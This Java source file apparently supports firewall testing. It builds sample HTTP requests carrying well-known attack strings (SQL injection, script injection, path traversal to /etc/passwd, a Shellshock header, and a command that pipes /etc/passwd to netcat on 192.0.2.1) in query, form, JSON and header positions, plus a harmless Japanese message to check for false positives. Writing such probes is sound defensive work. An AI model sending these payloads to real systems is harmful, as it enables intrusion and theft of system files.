package sekisho.proof.probe;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

/**
 * Requests that look like well-known attacks and can do no harm: they name nothing that exists, write nothing, and go to a path
 * that no application has. Every rule set for the web knows them at its lowest level. Immutable.
 */
final class AttackSamples {
    private static final String FORM = "application/x-www-form-urlencoded";

    /** An ordinary message whose bytes rules have taken for markup (941310). How many others pass, {@code waf corpus} measures. */
    private static final String HARMLESS = "サーバー/ネットワークの構成を確認しました。見積書は来月でお願いします。";

    /**
     * A request.
     *
     * @param name {@code sqli-form}
     * @param query without its question mark; empty for none
     */
    record Sample(String name, String method, String query, Map<String, String> fields, String body) {
        String target(String path) {
            return query.isEmpty() ? path : path + "?" + query;
        }
    }

    /** What rules are to recognise, by kind; the last is for a field of the header section. */
    private record Attack(String kind, String value, String field, String fieldValue) {}

    private static final List<Attack> ATTACKS = List.of(
            new Attack("sqli", "1' UNION SELECT name, value FROM nothing WHERE '1'='1", "Cookie", "order=1' OR '1'='1"),
            new Attack("xss", "<script>alert(1)</script>", "User-Agent", "<script>alert(1)</script>"),
            new Attack("traversal", "../../../../etc/passwd", "X-File", "../../../../etc/passwd"),
            new Attack("rce", "; cat /etc/passwd | nc 192.0.2.1 9", "User-Agent", "() { :;}; /bin/cat /etc/passwd"));

    private AttackSamples() {}

    /** Each kind of attack in each place where a request can carry it. */
    static List<Sample> attacks() {
        List<Sample> samples = new ArrayList<>();
        for (Attack attack : ATTACKS) {
            samples.add(query(attack.kind() + "-query", attack.value()));
            samples.add(form(attack.kind() + "-form", attack.value()));
            samples.add(json(attack.kind() + "-json", attack.value()));
            samples.add(
                    new Sample(attack.kind() + "-header", "GET", "", Map.of(attack.field(), attack.fieldValue()), ""));
        }
        return samples;
    }

    /** One that a person would send, in the same places; to see that not everything is refused. */
    static List<Sample> harmless() {
        return List.of(
                query("harmless-query", HARMLESS), form("harmless-form", HARMLESS), json("harmless-json", HARMLESS));
    }

    private static Sample query(String name, String value) {
        return new Sample(name, "GET", "q=" + encoded(value), Map.of(), "");
    }

    private static Sample form(String name, String value) {
        String body = "subject=order&comment=" + encoded(value);
        return new Sample(name, "POST", "", Map.of("Content-Type", FORM), body);
    }

    private static Sample json(String name, String value) {
        String text = "{\"subject\":\"order\",\"comment\":\"" + value + "\"}";
        return new Sample(name, "POST", "", Map.of("Content-Type", "application/json"), text);
    }

    private static String encoded(String value) {
        return URLEncoder.encode(value, StandardCharsets.UTF_8);
    }
}
